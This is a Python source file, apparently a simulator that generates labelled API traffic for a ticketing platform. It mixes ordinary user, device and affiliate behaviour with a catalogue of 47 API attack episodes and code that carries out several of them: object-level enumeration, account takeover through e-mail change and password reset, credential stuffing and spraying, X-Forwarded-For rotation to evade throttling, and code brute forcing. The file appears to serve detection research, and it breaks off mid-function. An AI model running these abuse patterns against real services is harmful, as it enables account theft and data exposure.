                yield from ask(cl, 'POST', O + '/images', dict(image=dict(remote_url=f'https://images.promo.example/{r.getrandbits(32):x}.jpg')))
            elif x < .66:
                yield from ask(cl, 'POST', f'{O}/events/{e["id"]}/comps', dict(comp=dict(email=f'press{r.randint(1, 40)}@news.example', quantity=2)))
        if r.random() < .08:
            yield from ask(cl, 'POST', O + '/events', dict(event=dict(name=r.choice(ACTS) + ' autumn')))
    for k, u in enumerate(orgs):
        u['city'] = CITY[k % 7]
        u['cl'] = C(f'198.18.180.{k * 9 + 4}', WEB[k % 3], u['email'], web=True)
        for t in S.human_starts(1.2, peaks=((10, 1), (15, 1.5)), weekend=.25):
            S.spawn(t, organiser(u, 0))

    def pull(u):
        cl = u['cl']
        keep, cl.dc = cl.dc, 'D-import'
        yield from opening(cl, u)
        rs = yield from ask(cl, 'GET', O + '/events?page=1')
        for e in rs.body[:6]:
            p = 1
            while p:
                rs = yield from ask(cl, 'GET', f'{O}/events/{e["id"]}/attendees?page={p}&per_page=10')
                p = p + 1 if 'Link' in rs.h else 0
                yield r.uniform(1, 4)
            yield from ask(cl, 'GET', f'{O}/events/{e["id"]}/attendees.csv')
        cl.dc = keep
    S.spawn(S.local(8, 16), pull(orgs[0]))
    gates = {}
    for k, v in enumerate(app.venues):
        for n in range(2):
            t = 'gd_' + ''.join(app.rng.choices(B62, k=32))
            app.dev[t] = dict(name=f'gate-{k}-{n}', venue=v)
            gates.setdefault(v, []).append(C(f'198.51.100.{100 + k}', 'StagepassGate/3.1 (Zebra TC22; Android 13) okhttp/4.12.0', f'device:gate-{k}-{n}', dc='D-gate', headers={'Authorization': 'Bearer ' + t}))

    def doors(e, cl, part):
        rs = send(cl, 'GET', G + '/events')
        yield 3
        rs = send(cl, 'GET', f'{G}/events/{e["id"]}/manifest')
        v = [t['barcode'] for t in rs.body['tickets']][part::2]
        r.shuffle(v)
        yield 600
        for b in v[:int(len(v) * .85)]:
            send(cl, 'POST', G + '/scans', dict(event_id=e['id'], barcode=b, scanned_at=int(S.now)))
            yield r.expovariate(1 / 45) + 2
            if r.random() < .07:
                send(cl, 'POST', G + '/scans', dict(event_id=e['id'], barcode=b if r.random() < .7 else f'{r.randint(10**12, 10**13 - 1)}', scanned_at=int(S.now)))
                yield 6
    for e in evs[:22]:
        for n in range(2):
            S.spawn(e['at'] - 1.3 * HOUR, doors(e, gates[e['v']][n], n))

    def pairing(k, d):
        """staff show a code of four digits in the office, the device pairs with it"""
        v = list(app.venues)[k]
        code = f'{r.randint(0, 9999):04}'
        app.pair[code] = dict(name=f'spare-{k}', venue=v, until=S.now + 600, once=True)
        cl = C(f'198.51.100.{100 + k}', 'StagepassGate/3.1 (Zebra TC22; Android 13) okhttp/4.12.0', f'device:spare-{k}')
        if r.random() < .3:
            S.call(cl, 'POST', G + '/pair', js=dict(code=code[::-1]))
            yield 10
        S.call(cl, 'POST', G + '/pair', js=dict(code=code))
    for k, d in ((1, 0), (4, 2), (6, 5), (9, 6), (11, 9), (2, 11), (5, 13)):
        S.spawn(S.local(d, 15), pairing(k, d))

    keys = {n: 'ak_live_' + ''.join(app.rng.choices(B62, k=28)) for n in ('gigguide', 'cityout', 'concertbot', 'cityout2', 'newsroom')}
    for n in ('gigguide', 'cityout', 'concertbot', 'newsroom'):
        app.keys[keys[n]] = dict(name=n)

    def affiliate(n, ip, ua, gap):
        cl = C(ip, ua, 'affiliate:' + n, dc='D-affil', headers={'X-Api-Key': keys[n], 'Accept': 'application/json'})
        while True:
            if n == 'cityout' and S.now > st + 7.45 * DAY and keys['cityout2'] not in app.keys:
                app.keys.pop(keys['cityout'])
                app.keys[keys['cityout2']] = dict(name=n)
                S.call(cl, 'GET', F + '/feed?page=1', dc='D-affrot')
                yield 900
                cl.h['X-Api-Key'], cl.dc = keys['cityout2'], 'D-affrot'
            rs = S.call(cl, 'GET', F + '/feed?page=1' + ('&per_page=100' if n == 'cityout' else ''))
            yield 2
            for e in r.sample(rs.body, min(3, len(rs.body))) if rs.st == 200 else []:
                S.call(cl, 'GET', f'{F}/events/{e["id"]}/offers' + ('.json' if n == 'gigguide' else ''))
                yield r.uniform(.5, 4)
            S.call(cl, 'POST', F + '/clicks', js=dict(clicks=[dict(event_id=e['id'], at=int(S.now)) for e in r.sample(rs.body, min(3, len(rs.body)))]) if rs.st == 200 else dict(clicks=[]))
            if n != 'concertbot' and int((S.now - st) / HOUR) % 24 in (6, 7):
                S.call(cl, 'GET', F + '/conversions?page=1')
            yield gap * r.uniform(.95, 1.05)
    for a in (('gigguide', '192.0.2.31', 'GuzzleHttp/7', 10800), ('cityout', '192.0.2.57', 'axios/1.6.8', 14400), ('concertbot', '192.0.2.112', 'Java-http-client/17.0.9', 21600)):
        S.spawn(st + r.random() * 2000, affiliate(*a))

    def dev():
        cl = C('203.0.113.77', 'PostmanRuntime/7.37.3', 'affiliate:newsroom', dc='D-dev')
        k = {'X-Api-Key': keys['newsroom']}
        for u, h in (('/feed', {}), ('/feed', {'Authorization': 'Bearer ' + keys['newsroom']}), ('/feed', {'X-Api-Key': keys['newsroom'][:-1]}), ('/feed', k), ('/feeds', k), ('/event', k), ('/events', k), ('/events/' + evs[40]['id'], k), ('/events/' + evs[40]['id'] + '/offers', k), ('/events/123/offers', k), ('/feed?page=0', k), ('/feed?page=abc', k), ('/feed?per_page=1000', k), ('/docs', k), ('/openapi.json', k), ('/conversions', k)):
            S.call(cl, 'GET', F + u, h=h)
            yield r.lognormvariate(3.6, .9)
        for b in (b'{clicks: []}', b'{"clicks": [}', b'{"clicks": []}', b'{"clicks": [{"event_id": 1}]}'):
            S.call(cl, 'POST', F + '/clicks', body=b, ct='application/json', h=k)
            yield r.lognormvariate(3.6, .9)
    S.spawn(S.local(7, 10), dev())
    S.spawn(S.local(8, 14), dev())

    def desk(u, until):
        cl = u['cl']
        yield from opening(cl, u)
        while S.now < until:
            yield r.expovariate(1 / 2600)
            c = r.choice(cust + crowd)
            rs = send(cl, 'GET', D + '/users?q=' + quote(c['email'][:r.randint(6, 14)]))
            yield r.uniform(5, 30)
            if rs.st == 200 and rs.body:
                send(cl, 'GET', f'{D}/users/{rs.body[0]["id"]}')
                yield r.uniform(20, 120)
                if c['orders'] and r.random() < .6:
                    n = app.orders[r.choice(c['orders'])]['number']
                    rs = send(cl, 'GET', f'{D}/orders/{n}')
                    yield r.uniform(30, 200)
                    if rs.st == 200 and r.random() < .12:
                        send(cl, 'POST', f'{D}/orders/{n}/refund', {})
    for k, u in enumerate(help_ + admins):
        u['city'], u['cl'] = 'Lisboa', C(f'10.40.3.{11 + k}', WEB[k % 3], u['email'], dc='D-support' if k < 4 else None, web=True, direct=True)
        for d in range(days):
            if k < 4 and (d + k) % 4 < 2:
                S.spawn(S.local(d, [8, 14][k % 2]), desk(u, S.local(d, [8, 14][k % 2]) + 7.5 * HOUR))

    def boss(u):
        cl = u['cl']
        yield from opening(cl, u)
        for _ in range(r.randint(2, 6)):
            yield r.uniform(20, 300)
            c = r.choice(cust)
            if r.random() < .6:
                send(cl, 'GET', D + '/users?q=' + c['email'][:7])
                send(cl, 'GET', f'{D}/users/{c["id"]}')
                if r.random() < .15:
                    send(cl, 'POST', f'{D}/users/{c["id"]}/impersonate', {})
            else:
                send(cl, 'POST', D + '/promo_codes', dict(promo_code=dict(code=f'PRESS{r.randint(100, 999)}', percent=10)))
    for u in admins:
        for t in S.human_starts(.7, peaks=((10, 1), (15, 1)), weekend=0):
            S.spawn(t, boss(u))

    # --- machines
    def night():
        cl = C('10.40.7.5', 'stagepass-jobs/2026.8 (Sidekiq 7.2)', 'svc:jobs', dc='D-night', direct=True)
        while True:
            d = int((S.now - st) / DAY)
            yield max(1, S.local(d, 3) - S.now)
            S.call(cl, 'GET', f'/internal/orders/export?day={d}')
            yield 6
            S.call(cl, 'POST', '/internal/payouts/run', js=dict(day=d))
            for _ in range(8):
                yield 30
                S.call(cl, 'GET', '/internal/stats')
            yield S.local(d + 1, 2.5) - S.now
    S.spawn(st + 1, night())

    def probe(ip, ua, gap, direct, paths):
        cl = C(ip, ua, 'probe', dc='D-probe', direct=direct)
        k = 0
        while True:
            S.call(cl, 'GET', paths[k % len(paths)])
            k += 1
            yield gap * r.uniform(.99, 1.01)
    S.spawn(st + 2, probe(LB, 'LB-HealthChecker/2.0', 1500, True, ['/up']))
    S.spawn(st + 9, probe('192.0.2.240', 'Uptimebot/2.0 (http://uptime.example/)', 2400, False, ['/', A + '/events?page=1&per_page=1']))

    def crawler():
        cl = C('192.0.2.200', 'Mozilla/5.0 (compatible; Searchbot/2.1; +http://search.example/bot.html)', 'crawler', dc='D-crawl')
        S.call(cl, 'GET', '/robots.txt')
        S.call(cl, 'GET', '/sitemap.xml')
        while True:
            x = r.random()
            e = r.choice(evs)['id']
            S.call(cl, 'GET', '/e/' + e if x < .9 else '/sitemap.xml' if x < .93 else '/e/evt_' + ''.join(random.Random(int(x * 1e6) % 15).choices(B62, k=12)) if x < .98 else '/')
            yield r.uniform(1200, 4600)
    S.spawn(st + 30, crawler())

    def checker():
        cl = C('192.0.2.130', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.0.0 Safari/537.36 AccessScan/4', 'a11y', dc='D-a11y', web=True)
        for d in range(days):
            yield max(1, S.local(d, 5.5) - S.now)
            page(cl)
            rs = send(cl, 'GET', A + '/events?page=1&per_page=20')
            for e in rs.body[:8]:
                yield r.uniform(1, 3)
                send(cl, 'GET', '/e/' + e['id'], h={'Accept': 'text/html,*/*;q=0.8'})
                send(cl, 'GET', f'{A}/events/{e["id"]}')
                send(cl, 'GET', f'{A}/events/{e["id"]}/seats')
    S.spawn(st + 40, checker())

    T.update(evs=evs, big=big, crowd=crowd, gifted=gifted, keys=keys, help=help_, orgs=orgs, gates=gates, AND=AND, IOS=IOS)
    if attacks:
        attack(S, app, cust, T)
    S.run()
    return S



EPISODES = """
Z01 bola_enumeration|API1:2023|actor|medium|customer takes ticket ids out of resale listings and fetches the bar codes of 75 foreign tickets in half an hour
Z02 bola_enumeration_slow|API1:2023|actor|hard|customer reads receipts of others by order number, two or three an hour in waking hours for six days, between own use
Z03 bola_enumeration|API1:2023|actor|easy|receipts counted upward with a script, 180 in five minutes
Z04 data_overconsumption|API4:2023|actor|medium|one address reads the seat maps of all events again and again in a night, 260 calls
Z05 bola_enumeration_distributed|API1:2023|endpoint|hard|12 accounts at 12 addresses each fetch four to six foreign bar codes a day, three days
Z06 bola_write_listing_price|API1:2023|actor|hard|customer lowers the price of listings of others to 1.00 and buys them at once, five times
Z07 bola_write_account_takeover|API1:2023|actor|hard|changes the e-mail address of four sellers by their user id, resets the passwords by mail, logs in and transfers their tickets
Z08 bola_enumeration_graphql|API1:2023|actor|medium|node(id:) under aliases reads name, e-mail, phone and orders of sellers whose ids the event screen shows
Z09 credential_stuffing|API2:2023|actor|easy|200 pairs in six minutes from one address at the token endpoint, partly throttled
Z10 credential_stuffing_distributed|API2:2023|endpoint|hard|85 addresses, one to three log-ins each over 13 hours with a browser-like sequence, three succeed
Z11 password_spraying|API2:2023|endpoint|hard|one seasonal password over 66 accounts, 4 addresses, one try in some minutes over a day
Z12 user_enumeration|API2:2023|actor|easy|the password form tells whether an address is registered: 220 asked in ten minutes with made-up forwarded addresses against the throttle
Z13 brute_force_pairing_code|API2:2023|actor|medium|four-digit pairing codes of gate devices tried until one is accepted, then the manifest is fetched
Z14 brute_force_order_number_distributed|API2:2023|endpoint|hard|guest look-up with e-mail addresses of three persons and counted order numbers, 7 addresses over ten hours
Z15 coupon_brute_force_gift_card_distributed|API6:2023|endpoint|hard|gift-card codes of a printed batch tried from 45 addresses, five to eight each over 15 hours
Z16 coupon_brute_force|API6:2023|actor|easy|240 promotion codes tried on one cart in 35 minutes
Z17 stolen_session_token|API2:2023|actor|hard|session cookie of a customer used from another network with the same browser beside its owner, two tickets are transferred
Z18 stolen_token|API2:2023|actor|medium|bearer token of the mobile app used by a script from a hosting network, orders and bar codes read, tickets listed for resale
Z19 leaked_api_key|API2:2023|actor|medium|key of an affiliate used from a new network with another client: all conversions and many offers
Z20 mass_assignment|API3:2023|actor|hard|profile update with role, verified_seller and wallet_cents that no client sends, then organiser functions
Z21 mass_assignment_cart_price|API3:2023|actor|hard|cart update with items_attributes sets the seat price to 1.00, four orders
Z22 logic_negative_quantity|API6:2023|actor|medium|add-ons with negative quantity lower the total of five carts
Z23 step_skip_payment|API6:2023|actor|hard|six orders are checked out as paid at the door, without the payment step, over two days
Z24 step_skip_waiting_room|API6:2023|actor|hard|one admitted queue token is used by nine accounts at other addresses that never waited
Z25 scalping_bot|API6:2023|endpoint|hard|16 aged accounts at own addresses queue, hold the best rows within half a second and check out in five seconds at the on-sale
Z26 bot_seat_hoarding|API6:2023|actor|medium|five accounts hold six seats each again whenever the hold expires, never buying, three hours
Z27 bot_referral_signup|API6:2023|actor|medium|34 accounts made in three hours from three addresses with the same referral code
Z28 logic_race_gift_card|API6:2023|actor|hard|one gift card applied to several carts at the same moment, each gets the whole balance
Z29 shadow_endpoint|API9:2023|endpoint|medium|a listing of carts for diagnosis appears on day 8 and is called from outside
Z30 response_schema_growth_pii|API3:2023|endpoint|medium|from day 11 a listing shows e-mail, phone, birth date and bank account of the seller (no attacker; every call is labelled)
Z31 internal_endpoint_external|API9:2023|actor+endpoint|medium|order export and statistics, called only from inside until then, from outside
Z32 unauthenticated_private_object|API2:2023|actor+endpoint|medium|the forgotten v0 order answers without a token, bar codes included: 130 numbers in an hour and a half
Z33 ssrf|API7:2023|actor|medium|image import of organisers pointed at metadata and internal addresses
Z34 sql_injection_manual|API8:2023|actor|medium|expressions in the sort parameter of listings by hand: errors, order changes and sleeps
Z35 sqlmap_scan|API8:2023|actor|easy|sqlmap against sort and q
Z36 injection_mixed|API8:2023|actor|medium|template, script, shell and traversal strings in reviews, searches, names and media paths, one every some minutes
Z37 jwt_forging|API2:2023|actor|hard|queue tokens with alg none, swapped fields and guessed keys until a self-made admission is accepted, then seats are bought
Z38 content_discovery|API9:2023|actor|easy|ffuf looks for unknown paths, some 280 in four minutes
Z39 content_discovery_slow|API9:2023|actor|hard|unknown paths of Rails applications, one in 10 to 60 minutes for three days, three addresses
Z40 api_fuzzing|API8:2023|actor|easy|fuzzer sends wrong types, long and odd values to documented operations
Z41 introspection_recon|API9:2023|actor|medium|GraphQL schema asked for, then field names guessed by the suggestions
Z42 application_dos_deep_query|API4:2023|actor+endpoint|medium|circular venue and event nesting of growing depth holds the gateway for many seconds, two addresses
Z43 multi_account_profile_scrape|API6:2023|endpoint|hard|14 accounts made for it each look at 10 to 14 events a day for their sellers, three days
Z44 exfil_export_slow|API6:2023|actor|hard|a support agent reads some 30 customers a day nobody called about, between ordinary work, four days
Z45 bfla_admin_function|API5:2023|actor|hard|customer gives himself complimentary tickets with the function of organisers
Z46 bfla_probe_denied|API5:2023|actor|medium|customer tries functions of support, administrators and organisers, refused
Z47 bola_enumeration_transfer_link|API1:2023|endpoint|hard|short transfer codes counted from three addresses for a day and a half, pending tickets accepted by a made account
""".strip().splitlines()


def attack(S, app, cust, T):
    r, st = S.rng, S.start
    for l in EPISODES:
        a, o, sc, d, t = l.split('|')
        S.episode(*a.split(), o, sc, d, t)
    C, send, page, login, signed, AND, IOS, evs, big, crowd = (T[k] for k in ('C', 'send', 'page', 'login', 'signed', 'AND', 'IOS', 'evs', 'big', 'crowd'))

    def at(day, hour, gen):
        S.spawn(S.local(day, hour) + r.random() * 400, gen)

    def own(u, ep):
        """an existing customer gone bad, at home"""
        cl = C(u['home'], u['cl'].ua, u['email'], ep=ep, web=u['cl'].web)
        if cl.web:
            page(cl)
        login(cl, u)
        return cl

    def made(ep, ip, ua, web=False, **extra):
        """an account made for the purpose"""
        f, l = r.choice(FIRST), r.choice(LAST)
        cl = C(ip, ua, ep=ep, web=web)
        cl.ident = f'{l}{f}{r.randint(10, 99999)}@{r.choice(["inbox", "mail"])}.example'
        if web:
            page(cl)
        send(cl, 'POST', A + '/users', dict(user=dict(name=f'{f.title()} {l.title()}', email=cl.ident, password=f'{r.choice(WORDS).title()}${r.randint(1000, 9999)}', **extra)))
        u = app.users[cl.ident]
        u['mem'] = u['pw']
        u.update(city=r.choice(CITY), cl=cl, home=ip)
        login(cl, u)
        return cl, u

    def rot(cl):
        return {'X-Forwarded-For': f'{r.randint(20, 190)}.{r.randint(1, 250)}.{r.randint(1, 250)}.{r.randint(1, 250)}, {cl.xff}'}

    def upcoming():
        return [e for e in evs if e['at'] > S.now + DAY and e is not big and e['status'] == 'on_sale']

    def pick(cl):
        rs = send(cl, 'GET', f'{A}/events?page={r.randint(2, 3)}')
        return r.choice([e['id'] for e in rs.body if e['id'] != big['id']])

    def take(cl, i, n, where=-1, **k):
        """seats of an event: the hold, or None"""
        rs = send(cl, 'GET', f'{A}/events/{i}/seats')
        if rs.st != 200 or not rs.body['sections']:
            return None
        x = rs.body['sections'][where if where < 0 else where % len(rs.body['sections'])]
        row = max(x['rows'], key=lambda w: len(w['free']))
        rs = send(cl, 'POST', f'{A}/events/{i}/holds', dict(hold=dict(seat_ids=[f'{x["section"]}-{row["row"]}-{m}' for m in row['free'][:n]])), **k)
        return rs.body['id'] if rs.st == 201 else None

    def z01():
        u = cust[151]
        cl = own(u, 'Z01')
        ids = []
        for p in (1, 2, 3):
            rs = send(cl, 'GET', f'{A}/listings?page={p}&per_page=50')
            ids += [l['id'] for l in rs.body if l['seller']['id'] != u['id']] if rs.st == 200 else []
            yield r.uniform(3, 10)
        for i in ids[:75]:
            rs = send(cl, 'GET', f'{A}/listings/{i}')
            yield r.uniform(3, 9)
            if rs.st == 200:
                send(cl, 'GET', f'{A}/tickets/{rs.body["ticket_id"]}/barcode')
                yield r.uniform(5, 16)
    at(6, 22.3, z01())

    def z02():
        u = cust[153]
        cl = u['cl']
        for d in range(4, 10):
            yield max(0, S.local(d, 8.5) - S.now)
            while S.now < S.local(d, 22.5):
                yield from signed(cl, u)
                if r.random() < .15:
                    yield from T['do_orders'](cl, u)
                yield r.uniform(700, 2000)
                yield from signed(cl, u)
                send(cl, 'GET', f'{A}/receipts/K-{app.no - r.randint(1, 700)}', ep='Z02')
    at(4, 8.5, z02())

    def z03():
        cl, u = made('Z03', '198.51.100.23', 'python-requests/2.31.0')
        for k in range(204320, 204500):
            send(cl, 'GET', f'{A}/receipts/K-{k}')
            yield r.uniform(1, 2.4)
    at(5, 2, z03())

    def z04():
        cl = C('203.0.113.14', WEB[0], ep='Z04')
        cl.h['Accept'] = 'application/json'
        ids = []
        for p in range(1, 6):
            rs = send(cl, 'GET', f'{A}/events?page={p}')
            ids += [e['id'] for e in rs.body]
            yield 1
        for k in range(260):
            send(cl, 'GET', f'{A}/events/{ids[k % len(ids)]}/seats')
            yield r.uniform(14, 30)
    at(7, 0.5, z04())

    def z05(k):
        web = k % 3 == 0
        cl, u = made('Z05', f'198.19.{k * 13 % 90}.{k * 7 + 9}', WEB[k % 4] if web else (AND, IOS)[k % 2] % '5.3.0', web)
        for d in range(9, 12):
            yield max(0, S.local(d, 9 + k % 6) - S.now) + r.random() * HOUR
            yield from signed(cl, u)
            send(cl, 'GET', A + '/me')
            rs = send(cl, 'GET', f'{A}/listings?' + urlencode(dict(sort=r.choice(['price', '-price']), page=r.randint(1, 4))))
            for l in r.sample(rs.body, min(len(rs.body), r.randint(4, 6))):
                yield r.uniform(60, 500)
                yield from signed(cl, u)
                x = send(cl, 'GET', f'{A}/listings/{l["id"]}')
                yield r.uniform(30, 2600)
                yield from signed(cl, u)
                send(cl, 'GET', f'{A}/tickets/{x.body["ticket_id"]}/barcode')
    for k in range(12):
        at(8, 10 + k * .7, z05(k))

    def z06():
        u = cust[155]
        cl = own(u, 'Z06')
        rs = send(cl, 'GET', A + '/listings?sort=-price&page=1')
        for l in [l for l in rs.body if l['seller']['id'] != u['id']][2:12:2]:
            yield r.uniform(20, 90)
            send(cl, 'GET', f'{A}/listings/{l["id"]}')
            yield r.uniform(5, 30)
            send(cl, 'PATCH', f'{A}/listings/{l["id"]}', dict(listing=dict(price_cents=100)))
            yield r.uniform(2, 8)
            send(cl, 'POST', f'{A}/listings/{l["id"]}/purchase', dict(payment_method='card'))
            yield r.uniform(100, 2400)
            yield from signed(cl, u)
    at(10, 20, z06())

    def z07():
        cl, me = made('Z07', '198.51.100.141', WEB[1], True)
        yield 30
        v = []
        for p in (1, 2):
            for l in send(cl, 'GET', f'{A}/listings?page={p}&per_page=50').body:
                w = app.byid[l['seller']['id']]
                if w in crowd and w not in v:
                    v.append(w)
            yield r.uniform(5, 20)
        for n, w in enumerate(v[:4]):
            box = f'm{r.randint(1000, 9999)}.{n}@throwaway.example'
            yield r.uniform(40, 300)
            send(cl, 'PATCH', f'{A}/users/{w["id"]}', dict(user=dict(email=box)))
            yield r.uniform(10, 40)
            send(cl, 'POST', A + '/password', dict(user=dict(email=box)))
            yield r.uniform(15, 60)
            pw = f'Taken{r.randint(1000, 9999)}!'
            send(cl, 'PUT', A + '/password', dict(user=dict(reset_password_token=app.mail.get(box), password=pw)))
            w['mem'] = pw
            v2 = C('198.51.100.141', WEB[1], box, ep='Z07', web=True)
            page(v2)
            yield r.uniform(3, 9)
            login(v2, w)
            rs = send(v2, 'GET', A + '/orders?page=1')
            for o in rs.body[:2] if rs.st == 200 else []:
                yield r.uniform(3, 20)
                rs = send(v2, 'GET', f'{A}/orders/{o["id"]}')
                for t in [t for t in rs.body['tickets'] if t['state'] == 'valid'][:1]:
                    yield r.uniform(3, 20)
                    x = send(v2, 'POST', f'{A}/tickets/{t["id"]}/transfer', {})
                    if x.st == 201:
                        yield 5
                        send(cl, 'POST', f'{A}/transfers/{x.body["code"]}/accept', {})
            yield r.uniform(600, 4000)
    at(9, 13, z07())

    def z08():
        u = cust[156]
        cl = own(u, 'Z08')
        ids = []
        rs = send(cl, 'POST', '/graphql', dict(operationName='HomeFeed', query=QUERIES['HomeFeed'], variables=dict(city=None, first=50)))
        for e in rs.body['data']['events']['nodes'][:26]:
            rs = send(cl, 'POST', '/graphql', dict(operationName='EventDetail', query=QUERIES['EventDetail'], variables=dict(id=e['id'])))
            ids += [l['seller']['id'] for l in rs.body['data']['event']['listings']]
            yield r.uniform(2, 9)
        ids = list(dict.fromkeys(ids))
        yield 600
        for k in range(0, len(ids), 5):
            q = '{ ' + ' '.join(f'n{n}: node(id: "{i}") {{ id ... on User {{ name email phone orders {{ number totalCents event {{ name }} }} }} }}' for n, i in enumerate(ids[k:k + 5])) + ' }'
            send(cl, 'POST', '/graphql', dict(query=q))
            yield r.uniform(8, 40)
    at(4, 21, z08())

    def z09():
        cl = C('203.0.113.12', 'python-requests/2.31.0', ep='Z09')
        for k in range(200):
            m = r.choice(crowd)['email'] if k % 9 == 4 else f'{r.choice(FIRST)}.{r.choice(LAST)}{r.randint(1, 900)}@{r.choice(["post", "mail"])}.example'
            S.call(cl, 'POST', '/oauth/token', form=dict(grant_type='password', username=m, password=f'{r.choice(WORDS)}{r.randint(1, 9999)}', client_id='app_9f2c1e'))
            yield r.uniform(.9, 2.6)
    at(6, 4, z09())

    def z10(k, win):
        cl = C(f'{["198.19", "203.0.113", "100.68"][k % 3]}.{k * 7 % 250}' + ('' if k % 3 == 1 else f'.{k + 3}'), WEB[k % 4], ep='Z10', web=True)
        page(cl)
        yield r.uniform(3, 15)
        for n in range(r.choice([1, 2, 2, 3])):
            u = win if win and n == 0 else r.choice(crowd) if r.random() < .25 else None
            m = u['email'] if u else f'{r.choice(FIRST)}.{r.choice(LAST)}{r.randint(1, 9999)}@{r.choice(["post", "mail", "inbox"])}.example'
            rs = send(cl, 'POST', A + '/session', dict(user=dict(email=m, password=u['pw'] if u is win and win else f'{r.choice(WORDS).title()}{r.randint(10, 9999)}', remember_me=True)), ident=None)
            if rs.st == 201:
                cl.csrf = rs.body['csrf_token']
                yield r.uniform(2, 6)
                send(cl, 'GET', A + '/me', ident=win['email'])
                send(cl, 'GET', A + '/orders?page=1', ident=win['email'])
                return
            yield r.uniform(8, 60)
    for k in range(85):
        S.spawn(S.local(8, 1) + r.random() * 13 * HOUR, z10(k, crowd[200 + k] if k in (31, 64, 77) else None))

    crowd[33]['pw'] = crowd[33]['mem'] = 'Autumn2026!'

    def z11(k):
        cl = C(f'198.19.{120 + k * 17}.{k * 40 + 20}', (AND, IOS)[k % 2] % '5.2.1', ep='Z11')
        v = [u for n, u in enumerate(crowd[:66]) if n % 4 == k]
        for u in v:
            S.call(cl, 'POST', '/oauth/token', js=dict(grant_type='password', username=u['email'], password='Autumn2026!', client_id='app_9f2c1e', scope='app'))
            yield r.uniform(1500, 6600)
    for k in range(4):
        S.spawn(S.local(11, 5) + k * 1300, z11(k))

    def z12():
        cl = C('203.0.113.90', 'Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0', ep='Z12')
        for k in range(220):
            m = r.choice(cust + crowd)['email'] if r.random() < .2 else f'{r.choice(FIRST)}.{r.choice(LAST)}{r.choice(["", r.randint(1, 999)])}@{r.choice(["post", "mail", "inbox"])}.example'
            S.call(cl, 'POST', A + '/password', js=dict(user=dict(email=m)), h=rot(cl))
            yield r.uniform(1.8, 3.6)
    at(3, 14, z12())

    def z13():
        v = evs[6]['v']
        app.pair['0241'] = dict(name='door-2', venue=v, until=S.local(7, 2), once=False)
        cl = C('203.0.113.131', 'StagepassGate/3.1 (Android 13) okhttp/4.12.0', ep='Z13')
        for k in range(10, 900):
            rs = S.call(cl, 'POST', G + '/pair', js=dict(code=f'{k:04}'), h=rot(cl))
            if rs.st == 201:
                break
            yield r.uniform(2, 4.5)
        cl.h['Authorization'] = 'Bearer ' + rs.body['device_token']
        yield 5
        for e in rs.body['events'] or [dict(id=evs[6]['id'])]:
            S.call(cl, 'GET', f'{G}/events/{e["id"]}/manifest')
            yield 4
    at(6, 16, z13())

    tgt = [u for u in crowd[300:] if u['orders']][:3]

    def z14(k):
        cl = C(f'198.19.{200 + k * 5}.{k * 31 + 6}', WEB[k % 4], ep='Z14', web=True)
        page(cl)
        for n in range(r.randint(22, 32)):
            yield r.uniform(500, 1900)
            u = tgt[(n + k) % 3]
            o = app.orders[u['orders'][0]]
            m = int(o['number'][2:]) + (0 if n == 17 + k and k % 3 == 0 else r.choice([-1, 1]) * r.randint(1, 60))
            rs = send(cl, 'POST', A + '/orders/lookup', dict(email=u['email'], number=f'K-{m}'))
    for k in range(7):
        S.spawn(S.local(12, 7) + k * 900, z14(k))

    def z15(k):
        cl = C(f'{["100.69", "198.19"][k % 2]}.{k * 5 % 240}.{k + 30}', WEB[k % 4] if k % 3 else AND % '5.3.0', ep='Z15')
        for _ in range(r.randint(5, 8)):
            c = r.randint(1200, 9900)
            S.call(cl, 'POST', A + '/gift_cards/balance', js=dict(code=f'GC-7731-{c:04}'))
            yield r.uniform(20, 700)
    for k in range(45):
        S.spawn(S.local(13, 6) + r.random() * 14.5 * HOUR, z15(k))

    def z16():
        u = cust[158]
        cl = own(u, 'Z16')
        h = take(cl, pick(cl), 2)
        c = send(cl, 'POST', A + '/carts', dict(cart=dict(hold_id=h))).body['id']
        for k in range(240):
            w = r.choice(['VIP', 'CREW', 'STAFF', 'PRESS', 'SUMMER', 'AUTUMN', 'FAN', 'EARLY', 'FRIENDS', 'SPRING'])
            send(cl, 'POST', f'{A}/carts/{c}/promo_code', dict(code='VIP40' if k == 197 else f'{w}{r.choice([5, 10, 15, 20, 25, 30, 50, 2026, r.randint(1, 99)])}'))
            yield r.uniform(5, 12)
    at(5, 20, z16())

    webby = [u for u in cust[150:] if u['cl'].web and len(u['orders']) > 1] or [u for u in cust if u['cl'].web and len(u['orders']) > 1]
    apps = [u for u in cust[150:] if not u['cl'].web and len(u['orders']) > 1] or [u for u in cust if not u['cl'].web and u['orders']]

    def thief(u):
        cl = C('203.0.113.222', u['cl'].ua, u['email'], ep='Z17', web=True)
        cl.sid, cl.csrf, cl.h['Accept-Language'] = u['cl'].sid, u['cl'].csrf, u['cl'].h['Accept-Language']
        page(cl)
        n = 0
        for _ in range(26):
            yield r.uniform(200, 1900)
            x = r.random()
            if x < .3:
                send(cl, 'GET', A + '/me')
                continue
            rs = send(cl, 'GET', A + '/orders?page=1')
            if rs.st == 200 and rs.body and x < .8:
                yield r.uniform(4, 30)
                o = send(cl, 'GET', f'{A}/orders/{r.choice(rs.body)["id"]}')
                t = [t for t in o.body['tickets'] if t['state'] == 'valid'] if o.st == 200 else []
                if t and x < .55:
                    send(cl, 'GET', f'{A}/tickets/{t[0]["id"]}/barcode')
                elif t and n < 2:
                    n += 1
                    send(cl, 'POST', f'{A}/tickets/{t[0]["id"]}/transfer', {})

    def owner(u):
        yield from T['visit'](u['cl'], u, 1)
        S.spawn(S.now + 1500, thief(u))
        for _ in range(4):
            yield r.uniform(4000, 7000)
            yield from T['visit'](u['cl'], u, 1)
    at(10, 9, owner(webby[0]))

    def z18():
        u = apps[0]
        yield from T['visit'](u['cl'], u, 1)
        yield 200
        yield from signed(u['cl'], u)
        cl = C('198.51.100.62', 'python-httpx/0.27.0', u['email'], ep='Z18', headers={'Authorization': u['cl'].h['Authorization'], 'Accept': 'application/json'})
        send(cl, 'GET', A + '/me')
        for _ in range(24):
            rs = send(cl, 'GET', A + '/orders?page=1')
            for o in r.sample(rs.body, min(2, len(rs.body))) if rs.st == 200 else []:
                yield r.uniform(20, 80)
                d = send(cl, 'GET', f'{A}/orders/{o["id"]}')
                for t in d.body['tickets'][:1] if d.st == 200 else []:
                    yield r.uniform(20, 80)
                    if t['state'] == 'valid' and r.random() < .4:
